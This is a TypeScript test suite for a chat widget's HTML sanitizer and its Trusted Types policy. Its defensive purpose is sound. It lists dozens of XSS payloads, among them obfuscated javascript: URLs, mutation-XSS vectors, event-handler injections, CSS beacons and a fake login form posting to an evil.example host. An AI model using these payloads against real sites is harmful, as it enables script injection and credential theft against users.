import { expect } from '@open-wc/testing';
import { plainTextToFragment, sanitizeToFragment, TRUSTED_TYPES_POLICY_NAMES } from './sanitize.js';
import { safeUrl } from './url-policy.js';
import { attributeAllowed } from './policy.test-helper.js';

declare global {
  interface Window {
    __pwned?: number;
  }
}

const PWN = 'window.__pwned=(window.__pwned||0)+1';

/** XSS vectors; each would set window.__pwned if anything in it ran. */
const PAYLOADS: readonly string[] = [
  `<script>${PWN}</script>`,
  `<img src=x onerror="${PWN}">`,
  `<img src="https://example.com/a.png" onload="${PWN}">`,
  `<svg onload="${PWN}"></svg>`,
  `<svg><script>${PWN}</script></svg>`,
  `<a href="javascript:${PWN}">x</a>`,
  `<a href="JaVaScRiPt:${PWN}">x</a>`,
  `<a href=" javascript:${PWN}">x</a>`,
  `<a href="java&#x09;script:${PWN}">x</a>`,
  `<a href="java&#10;script:${PWN}">x</a>`,
  `<a href="&#x6A;avascript:${PWN}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${PWN}">x</a>`,
  `<a href="javascript&colon;${PWN}">x</a>`,
  `<a href="data:text/html,<script>${PWN}</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<p style="background:url(https://evil.example/beacon)">css beacon</p>`,
  `<div style="position:fixed;inset:0;z-index:99999">overlay</div>`,
  `<style>@import url(https://evil.example/x.css); p{background:url(https://evil.example/b)}</style><p>s</p>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<form action="https://evil.example/steal"><input name="password"><button>Login</button></form>`,
  `<button formaction="https://evil.example">x</button>`,
  `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${PWN}"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<object data="javascript:${PWN}"></object>`,
  `<embed src="javascript:${PWN}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}">`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${PWN}>"></path></textarea></mtext></svg></mglyph></mi></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
  `<template><img src=x onerror="${PWN}"></template>`,
  `<template><script>${PWN}</script></template>`,
  `<details open ontoggle="${PWN}">x</details>`,
  `<video><source onerror="${PWN}"></video>`,
  `<audio src=x onerror="${PWN}"></audio>`,
  `<body onload="${PWN}">`,
  `<input autofocus onfocus="${PWN}">`,
  `<marquee onstart="${PWN}">x</marquee>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="http://127.0.0.1/admin">`,
  `<img src="//evil.example/x.png">`,
  `<a href="https://user:pass@evil.example/">cred</a>`,
  `<p id="x" class="slate-p" name="n" data-x="1" aria-hidden="true">attrs</p>`,
  `<img src="x` + `" onerror="${PWN}">`,
  `<a href="https://example.com/" onclick="${PWN}">ok</a>`,
  `<xmp><img src=x onerror=${PWN}></xmp>`,
  `<plaintext><img src=x onerror=${PWN}>`,
  `<!--<img src=x onerror=${PWN}>-->`,
  `<p>x</p><!--><img src=x onerror=${PWN}>-->`,
  `<?xml-stylesheet href="https://evil.example/x.xsl"?><p>pi</p>`,
  `<a href="https://example.com/">ok</a><a href="\u202ehttps://example.com">bidi</a>`,
];

const ALLOWED = new Set([
  'a', 'abbr', 'b', 'blockquote', 'br', 'caption', 'code', 'dd', 'del', 'div', 'dl', 'dt', 'em',
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'img', 'ins', 'kbd', 'li', 'mark', 'ol', 'p',
  'pre', 's', 'small', 'span', 'strong', 'sub', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th',
  'thead', 'tr', 'u', 'ul',
]);

/** Every violation of the policy found in a sanitized tree (empty = clean). */
function violations(root: ParentNode): string[] {
  const found: string[] = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.localName;
    if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`namespace ${el.namespaceURI} <${tag}>`);
    // The media gate's placeholder button is ours (media-gate.ts).
    if (!ALLOWED.has(tag) && !(tag === 'button' && el.className === 'blocked-media-load')) found.push(`element <${tag}>`);
    for (const attr of el.attributes) {
      if (!attributeAllowed(tag, attr)) found.push(`attribute ${tag}[${attr.name}]`);
      if (attr.name.startsWith('on')) found.push(`handler ${tag}[${attr.name}]`);
    }
    const href = el.getAttribute('href');
    if (href !== null && safeUrl(href, 'link') !== href) found.push(`href ${href}`);
    const src = el.getAttribute('src');
    if (src !== null && (tag !== 'img' || safeUrl(src, 'media') !== src)) found.push(`src ${src}`);
    if (tag === 'a' && /^https?:/.test(href ?? '') && (el.getAttribute('target') !== '_blank' || el.getAttribute('rel') !== 'noopener noreferrer')) {
      found.push(`link without target/rel: ${href}`);
    }
  }
  return found;
}

describe('sanitizeToFragment', () => {
  afterEach(() => {
    delete window.__pwned;
  });

  for (const payload of PAYLOADS) {
    it(`neutralises ${JSON.stringify(payload).slice(0, 90)}`, () => {
      const fragment = sanitizeToFragment(payload);
      expect(fragment).to.be.instanceOf(DocumentFragment);
      expect(violations(fragment)).to.deep.equal([]);
    });
  }

  it('runs nothing when every sanitized payload is inserted into the page', async () => {
    const host = document.createElement('div');
    document.body.append(host);
    for (const payload of PAYLOADS) host.append(sanitizeToFragment(payload));
    // Give error/load handlers and lazy images a chance to fire.
    await new Promise((r) => setTimeout(r, 300));
    expect(window.__pwned).to.equal(undefined);
    expect(violations(host)).to.deep.equal([]);
    host.remove();
  });

  it('the flag check itself works: unsanitized markup does run', async () => {
    // Guards the test above against a flag that could never be set.
    const host = document.createElement('div');
    document.body.append(host);
    host.innerHTML = `<img src="data:," onerror="${PWN}">`;
    await new Promise((r) => setTimeout(r, 300));
    expect(window.__pwned).to.equal(1);
    host.remove();
  });

  it('keeps the allowed markup, with link target/rel and safe images', () => {
    const html =
      '<h2>Title</h2><p>Some <strong>bold</strong>, <em>em</em>, <code>x &lt; y</code> and <a href="https://example.com/a">a link</a>.</p>' +
      '<ul><li>one</li><li>two</li></ul><ol start="3" reversed><li>three</li></ol>' +
      '<table><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">c</td></tr></tbody></table>' +
      '<pre><code>let a = 1;</code></pre><blockquote><p>q</p></blockquote>' +
      '<p><img src="https://cdn.example.com/a.png" alt="A picture"><br><a href="tel:+39 02 1234">call</a> <a href="mailto:a@example.com">mail</a></p><hr>';
    const host = document.createElement('div');
    host.append(sanitizeToFragment(html, { loadOrigins: ['https://cdn.example.com'] }));
    expect(violations(host)).to.deep.equal([]);
    expect(host.querySelector('h2')!.textContent).to.equal('Title');
    expect(host.querySelectorAll('li').length).to.equal(3);
    expect(host.querySelector('ol')!.getAttribute('start')).to.equal('3');
    expect(host.querySelector('td')!.getAttribute('colspan')).to.equal('2');
    expect(host.querySelector('code')!.textContent).to.equal('x < y');
    expect(host.querySelector('pre code')).to.not.equal(null);
    expect(host.querySelector('blockquote p')).to.not.equal(null);
    const web = host.querySelector('a[href^="https"]')!;
    expect(web.getAttribute('target')).to.equal('_blank');
    expect(web.getAttribute('rel')).to.equal('noopener noreferrer');
    const tel = host.querySelector('a[href^="tel:"]')!;
    expect(tel.getAttribute('href')).to.equal('tel:+39021234');
    expect(tel.hasAttribute('target')).to.equal(false);
    const img = host.querySelector('img')!;
    expect(img.getAttribute('src')).to.equal('https://cdn.example.com/a.png');
    expect(img.getAttribute('alt')).to.equal('A picture');
    expect(img.getAttribute('loading')).to.equal('lazy');
    expect(host.querySelector('hr')).to.not.equal(null);
  });

  it('drops refused images and hrefs but keeps the text around them', () => {
    const host = document.createElement('div');
    host.append(sanitizeToFragment('<p>before <img src="javascript:alert(1)" alt="x"> <a href="javascript:alert(1)">label</a> after</p>'));
    expect(host.querySelector('img')).to.equal(null);
    expect(host.querySelector('a')!.hasAttribute('href')).to.equal(false);
    expect(host.textContent).to.equal('before  label after');
  });

  it('uses the media origins of the call only', () => {
    const html = '<img src="http://127.0.0.1:5173/img/a.png" alt="local">';
    const allowed = document.createElement('div');
    allowed.append(sanitizeToFragment(html, { mediaOrigins: ['http://127.0.0.1:5173'] }));
    expect(allowed.querySelector('img')!.getAttribute('src')).to.equal('http://127.0.0.1:5173/img/a.png');
    const refused = document.createElement('div');
    refused.append(sanitizeToFragment(html));
    expect(refused.querySelector('img')).to.equal(null);
  });

  it('refuses bad attribute values', () => {
    const host = document.createElement('div');
    host.append(sanitizeToFragment('<table><tr><td colspan="0" rowspan="x">c</td></tr></table><p dir="evil" lang="en-US">p</p>'));
    const td = host.querySelector('td')!;
    expect(td.hasAttribute('colspan')).to.equal(false);
    expect(td.hasAttribute('rowspan')).to.equal(false);
    expect(host.querySelector('p')!.hasAttribute('dir')).to.equal(false);
    expect(host.querySelector('p')!.getAttribute('lang')).to.equal('en-US');
  });

  it('makes code blocks and tables keyboard-scrollable, and drops tabindex the bot sends', () => {
    const div = document.createElement('div');
    div.append(sanitizeToFragment('<pre tabindex="-1"><code>x</code></pre><table><tr><td>1</td></tr></table><p tabindex="3">p</p><a href="https://indigo.ai" tabindex="-1">a</a>'));
    expect(div.querySelector('pre')?.getAttribute('tabindex')).to.equal('0');
    expect(div.querySelector('table')?.getAttribute('tabindex')).to.equal('0');
    expect(div.querySelector('p')?.hasAttribute('tabindex')).to.equal(false);
    expect(div.querySelector('a')?.hasAttribute('tabindex')).to.equal(false);
  });

  it('names its Trusted Types policy', () => {
    expect(TRUSTED_TYPES_POLICY_NAMES).to.deep.equal(['indigo-chat-html']);
    expect(Object.isFrozen(TRUSTED_TYPES_POLICY_NAMES)).to.equal(true);
  });
});

describe('sanitizeToFragment under enforced Trusted Types', () => {
  it('works in a page with require-trusted-types-for, with zero violations', async () => {
    const frame = document.createElement('iframe');
    const csp = `require-trusted-types-for 'script'; trusted-types ${TRUSTED_TYPES_POLICY_NAMES.join(' ')}`;
    const moduleUrl = new URL('./sanitize.ts', import.meta.url).href;
    // srcdoc inherits our origin, so the dev server serves the module into the frame.
    frame.srcdoc =
      `<!doctype html><meta http-equiv="Content-Security-Policy" content="${csp}">` +
      `<script type="module">
        const violations = [];
        document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective + ' ' + e.sample));
        let enforced = false;
        try { document.createElement('div').innerHTML = '<b>x</b>'; } catch { enforced = true; }
        try {
          const m = await import(${JSON.stringify(moduleUrl)});
          const f = m.sanitizeToFragment('<p>Hi <a href="https://example.com/">x</a><img src=x onerror=alert(1)></p>');
          const host = document.createElement('div');
          host.append(f);
          // Let queued violation reports arrive before answering.
          await new Promise((r) => setTimeout(r, 50));
          window.parent.postMessage({ tt: true, enforced, html: host.innerHTML, violations }, '*');
        } catch (error) {
          window.parent.postMessage({ tt: true, enforced, html: 'error: ' + error, violations }, '*');
        }
      </script>`;
    const result = new Promise<{ enforced: boolean; html: string; violations: string[] }>((resolve) => {
      window.addEventListener('message', function onMessage(e: MessageEvent) {
        if (e.data?.tt) {
          window.removeEventListener('message', onMessage);
          resolve(e.data);
        }
      });
    });
    document.body.append(frame);
    const { enforced, html, violations: seen } = await result;
    frame.remove();
    // The frame really enforces Trusted Types (a raw innerHTML assignment was blocked)...
    expect(enforced).to.equal(true);
    // ...only that probe was reported, and sanitizing still produced the safe markup.
    expect(seen.filter((v) => !v.includes('<b>x</b>'))).to.deep.equal([]);
    expect(html).to.equal('<p>Hi <a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a></p>');
  });
});

describe('plainTextToFragment', () => {
  it('escapes markup and builds paragraphs and line breaks', () => {
    const host = document.createElement('div');
    host.append(plainTextToFragment('Hello <img src=x onerror=alert(1)>\nsecond line\r\n\r\n\n\nnew & paragraph\n'));
    expect(host.innerHTML).to.equal('<p>Hello &lt;img src=x onerror=alert(1)&gt;<br>second line</p><p>new &amp; paragraph</p>');
    expect(host.querySelector('img')).to.equal(null);
  });

  it('returns an empty fragment for blank input', () => {
    expect(plainTextToFragment('\n \n').childNodes.length).to.equal(0);
  });
});
